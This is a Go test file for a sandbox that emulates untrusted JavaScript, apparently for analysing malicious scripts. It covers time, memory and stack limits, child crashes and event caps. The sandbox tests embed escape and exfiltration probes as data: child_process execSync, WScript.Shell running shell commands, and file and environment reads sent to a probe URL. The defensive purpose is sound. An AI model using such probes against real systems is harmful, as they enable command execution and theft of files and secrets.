package emulate

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"
)

// Each limit ends the run within its budget, keeps what was recorded before
// and says why.
func TestLimits(t *testing.T) {
	t.Parallel()
	const budget = 2 * time.Second
	tests := []struct {
		name   string
		src    string
		reason []Reason // any of
	}{
		{"endless loop", `fetch("https://before-loop.example/"); for (;;) {}`, []Reason{ReasonTime}},
		{"endless loop in a timer", `fetch("https://before-loop.example/"); setInterval(function () { for (;;) {} }, 10)`, []Reason{ReasonTime}},
		{"endless loop in eval", `fetch("https://before-loop.example/"); eval("while (true) {}")`, []Reason{ReasonTime}},
		// goja slows down on huge concatenations: the doubling string may
		// meet the clock before the memory limit.
		{"doubling string", `fetch("https://before-loop.example/"); var s = "x"; for (;;) s += s;`, []Reason{ReasonMemory, ReasonTime}},
		{"doubling array", `fetch("https://before-loop.example/"); var a = [1]; for (;;) a = a.concat(a);`, []Reason{ReasonMemory, ReasonTime}},
		{"growing array", `fetch("https://before-loop.example/"); var a = []; for (;;) a.push(new Uint8Array(1 << 24));`, []Reason{ReasonMemory}},
		{"growing array of strings", `fetch("https://before-loop.example/"); var a = []; for (;;) a.push("x".repeat(1 << 20) + a.length);`, []Reason{ReasonMemory, ReasonTime}},
		{"one huge string", `fetch("https://before-loop.example/"); var s = "x".repeat(1 << 30);`, []Reason{ReasonMemory}},
		// A native loop does not look at the interrupt: the parent kills
		// the child a second after the budget.
		{"native loop past the interrupt", `fetch("https://before-loop.example/"); new Array(3e8).fill(1.5);`, []Reason{ReasonTime}},
		{"deep recursion", `fetch("https://before-loop.example/"); function r(n) { return r(n + 1) + 1; } r(0);`, []Reason{ReasonStack}},
		// Native frames between the JavaScript ones: slow enough under
		// -race to meet the clock before the stack limit.
		{"recursion through getters", `fetch("https://before-loop.example/"); var o = {get x() { return [1].map(function () { return o.x; }); }}; o.x;`, []Reason{ReasonStack, ReasonTime}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			start := time.Now()
			res := run(t, tt.src, Options{Timeout: budget, Profiles: []string{profileBrowser}})
			if took := time.Since(start); took > maxWall(budget) {
				t.Errorf("Run(%q) took %v, want at most %v", tt.src, took, maxWall(budget))
			}
			if res.Budget == nil || !slices.Contains(tt.reason, res.Budget.Reason) {
				t.Errorf("Run(%q).Budget = %+v, want reason in %q", tt.src, res.Budget, tt.reason)
			}
			if !hasEvent(res, "fetch", "https://before-loop.example/") {
				t.Errorf("Run(%q) lost the event recorded before the limit: %v", tt.src, res.Events)
			}
		})
	}
}

// maxWall is the longest Run may take by construction: the child's start,
// the budget, the grace before the kill and the wait for its output.
func maxWall(budget time.Duration) time.Duration {
	return startTimeout + budget + 2*killGrace
}

func hasEvent(res *Result, sink, value string) bool {
	for _, e := range res.Events {
		if e.Sink == sink && e.Value == value {
			return true
		}
	}
	return false
}

// A regular expression that backtracks catastrophically (goja hands
// patterns with lookaround to a backtracking engine) gives up at the match
// timeout, and the script goes on.
func TestRegexpTimeout(t *testing.T) {
	t.Parallel()
	res := run(t, `/^(a+)+$(?!x)/.test("a".repeat(34) + "!"); fetch("https://after-regexp.example/")`, Options{Profiles: []string{profileBrowser}})
	if res.Budget != nil || !hasEvent(res, "fetch", "https://after-regexp.example/") {
		t.Errorf("Run(backtracking regexp) = budget %+v, events %v; want the fetch after it and no budget", res.Budget, res.Events)
	}
}

// What the parent does with a child that dies or hangs after it recorded
// something: a stand-in child written in sh.
func TestChildDies(t *testing.T) {
	t.Parallel()
	const ready = `echo '{"k":"ready"}'; read -r req; echo '{"k":"ev","s":"fetch","v":"https://before-crash.example/","p":"browser"}'; `
	tests := []struct {
		name   string
		script string
		reason Reason
	}{
		{"segfault", ready + `kill -SEGV $$`, ReasonCrash},
		{"exit", ready + `exit 3`, ReasonCrash},
		{"out of memory", ready + `echo 'fatal error: runtime: out of memory' >&2; exit 2`, ReasonMemory},
		{"hang", ready + `while :; do :; done`, ReasonTime},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			start := time.Now()
			res, err := runLimited(context.Background(), []byte("x"), Options{Timeout: 500 * time.Millisecond, Executable: "/bin/sh", Args: []string{"-c", tt.script}})
			if err != nil {
				t.Fatalf("Run(%s): %v", tt.name, err)
			}
			if took := time.Since(start); took > maxWall(500*time.Millisecond) {
				t.Errorf("Run(%s) took %v", tt.name, took)
			}
			if res.Budget == nil || res.Budget.Reason != tt.reason {
				t.Errorf("Run(%s).Budget = %+v, want reason %q", tt.name, res.Budget, tt.reason)
			}
			if !hasEvent(res, "fetch", "https://before-crash.example/") {
				t.Errorf("Run(%s) lost the event streamed before the end: %v", tt.name, res.Events)
			}
		})
	}
}

// Nothing a script does reaches outside the sandbox: no module loader, no
// process object, no command run, no file read or written.
func TestSandbox(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	secret := filepath.Join(dir, "secret.txt")
	if err := os.WriteFile(secret, []byte("TOPSECRET-4711"), 0o600); err != nil {
		t.Fatal(err)
	}
	marker := filepath.Join(dir, "pwned")
	q := func(s string) string { return `"` + strings.ReplaceAll(s, `\`, `\\`) + `"` }
	tests := []struct {
		name string
		src  string
		want string // a probe event value that must be recorded
		stub string // a global the run had to stub, if any
	}{
		{"require", `new Image().src = "https://probe.example/?" + typeof require; require("child_process").execSync("touch " + ` + q(marker) + `);`, "https://probe.example/?undefined", "require"},
		{"process", `new Image().src = "https://probe.example/?" + typeof process + typeof Deno + typeof Bun; process.exit(3);`, "https://probe.example/?undefinedundefinedundefined", "process"},
		{"fs module", `var fs = require("fs"); fs.writeFileSync(` + q(marker) + `, "x"); new Image().src = "https://probe.example/?" + fs.readFileSync(` + q(secret) + `);`, "", "require"},
		{"shell run", `var sh = new ActiveXObject("WScript.Shell"); sh.Run("sh -c 'touch ` + marker + `'", 0, true); sh.Exec("cmd /c type ` + secret + `"); WScript.CreateObject("Shell.Application").ShellExecute("sh", "-c 'touch ` + marker + `'");`, "sh -c 'touch " + marker + "'", ""},
		{"file read", `var f = new ActiveXObject("Scripting.FileSystemObject"); var t = f.OpenTextFile(` + q(secret) + `, 1).ReadAll(); var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.LoadFromFile(` + q(secret) + `); t += s.ReadText(); new ActiveXObject("MSXML2.XMLHTTP").open("GET", "https://probe.example/?" + t + f.FileExists(` + q(secret) + `));`, "https://probe.example/?false", ""},
		{"file write", `var f = new ActiveXObject("Scripting.FileSystemObject"); var o = f.CreateTextFile(` + q(marker) + `, true); o.WriteLine("x"); o.Close(); var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.WriteText("x"); s.SaveToFile(` + q(marker) + `, 2); new ActiveXObject("MSXML2.XMLHTTP").open("GET", "https://probe.example/?" + f.FileExists(` + q(marker) + `));`, "https://probe.example/?false", ""},
		{"environment", `var sh = new ActiveXObject("WScript.Shell"); new ActiveXObject("MSXML2.XMLHTTP").open("GET", "https://probe.example/?" + sh.ExpandEnvironmentStrings("%HOME%|%PATH%|%TEMP%"));`, "https://probe.example/?%HOME%|C:\\Windows\\system32;C:\\Windows;C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\|C:\\Users\\jdoe\\AppData\\Local\\Temp", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			res := run(t, tt.src, Options{})
			if res.Budget != nil {
				t.Errorf("Run(%s).Budget = %+v, want nil", tt.name, res.Budget)
			}
			if tt.want != "" {
				found := false
				for _, e := range res.Events {
					found = found || e.Value == tt.want
				}
				if !found {
					t.Errorf("Run(%s): no event %q; events:\n%s", tt.name, tt.want, dump(res.Events))
				}
			}
			for _, e := range res.Events {
				if strings.Contains(e.Value, "TOPSECRET") || strings.Contains(e.Value, os.Getenv("HOME")+"/") {
					t.Errorf("Run(%s) leaked %q at %s", tt.name, e.Value, e.Sink)
				}
			}
			if tt.stub != "" && !slices.Contains(res.Stubbed, tt.stub) {
				t.Errorf("Run(%s).Stubbed = %v, want %q in it", tt.name, res.Stubbed, tt.stub)
			}
			if _, err := os.Stat(marker); err == nil {
				t.Errorf("Run(%s) created %s", tt.name, marker)
			}
		})
	}
}

// A canceled context stops the child at once and says so.
func TestCanceled(t *testing.T) {
	t.Parallel()
	ctx, cancel := context.WithCancel(context.Background())
	time.AfterFunc(2*time.Second, cancel)
	start := time.Now()
	res, err := runLimited(ctx, []byte(`for (;;) {}`), Options{Timeout: time.Minute, Profiles: []string{profileBrowser}})
	if !errors.Is(err, context.Canceled) {
		t.Errorf("Run(canceled) error = %v, want %v", err, context.Canceled)
	}
	if took := time.Since(start); took > maxWall(2*time.Second) {
		t.Errorf("Run(canceled) took %v", took)
	}
	if res == nil || res.Budget == nil {
		t.Errorf("Run(canceled) = %+v, want a partial result with a budget", res)
	}
}

// Past MaxEvents nothing more is kept, and the result says so.
func TestMaxEvents(t *testing.T) {
	t.Parallel()
	res := run(t, `for (var i = 0; i < 500; i++) fetch("https://e.example/" + i);`, Options{MaxEvents: 10, Profiles: []string{profileBrowser}})
	if len(res.Events) != 10 || !res.Truncated {
		t.Errorf("Run(500 fetches, MaxEvents 10) = %d events, truncated %v; want 10, true", len(res.Events), res.Truncated)
	}
}

// A child that never says it is up gets no script and no limits: Run
// fails, and returns as soon as the child is gone or ctx ends.
func TestChildNotReady(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name   string
		script string
		ctx    time.Duration
		want   string
	}{
		{"exits", `exit 0`, time.Minute, "child ended before it was ready"},
		{"says something else", `echo hello; exit 0`, time.Minute, "child ended before it was ready"},
		{"hangs", `sleep 30`, 500 * time.Millisecond, context.DeadlineExceeded.Error()},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			ctx, cancel := context.WithTimeout(context.Background(), tt.ctx)
			defer cancel()
			start := time.Now()
			_, err := Run(ctx, []byte(`fetch("https://never.example/")`), Options{Executable: "/bin/sh", Args: []string{"-c", tt.script}})
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("Run(%s) error = %v, want one saying %q", tt.name, err, tt.want)
			}
			if took := time.Since(start); took > min(tt.ctx, startTimeout)+2*killGrace {
				t.Errorf("Run(%s) took %v", tt.name, took)
			}
		})
	}
}

// The script's budget runs on the child's clock (CPU time), not on wall
// time: with a clock that does not move, as for a child that gets no CPU on
// a loaded machine, a script far longer than the budget in wall time ends
// normally; with the process's own CPU clock it is cut.
func TestBudgetClock(t *testing.T) {
	t.Parallel()
	src := `for (var i = 0; i < 2e6; i++) {} fetch("https://after-loop.example/")`
	stopped := func() func() time.Duration { return func() time.Duration { return 0 } }
	for _, tt := range []struct {
		name  string
		clock func() func() time.Duration
		cut   bool
	}{
		{"stopped clock", stopped, false},
		{"CPU clock", cpuClock, true},
	} {
		opts := Options{Timeout: time.Millisecond, Profiles: []string{profileBrowser}}.withDefaults()
		var out bytes.Buffer
		w := bufio.NewWriter(&out)
		c := newChild(opts, w)
		c.clock = tt.clock
		c.runScript([]byte(src))
		w.Flush()
		res := &Result{}
		col := &collector{opts: opts, res: res}
		_ = col.decodeStream(&out)
		if cut := col.budget != nil; cut != tt.cut || cut && col.budget.Reason != ReasonTime {
			t.Errorf("%s: a 1ms budget for a loop of 2e6: budget %+v, want a time budget: %v", tt.name, col.budget, tt.cut)
		}
		if got := hasEvent(res, "fetch", "https://after-loop.example/"); got == tt.cut {
			t.Errorf("%s: event after the loop recorded: %v, want %v", tt.name, got, !tt.cut)
		}
	}
}

// The budget's clock starts before the script does: with one P, as in the
// child, a clock started by the watchdog goroutine would start only once the
// script yields or is preempted, and the script would get its first steps
// free.
func TestBudgetClockStartsFirst(t *testing.T) {
	defer runtime.GOMAXPROCS(runtime.GOMAXPROCS(1))
	opts := Options{Profiles: []string{profileBrowser}}.withDefaults()
	var out bytes.Buffer
	w := bufio.NewWriter(&out)
	c := newChild(opts, w)
	eventsAtStart := -1
	c.clock = func() func() time.Duration {
		c.mu.Lock()
		eventsAtStart = c.events
		c.mu.Unlock()
		return wallClock()
	}
	c.runScript([]byte(`fetch("https://first.example/"); for (var i = 0; i < 1e5; i++) {}`))
	if eventsAtStart != 0 {
		t.Errorf("the budget's clock started after %d events of the script, want before the script", eventsAtStart)
	}
}
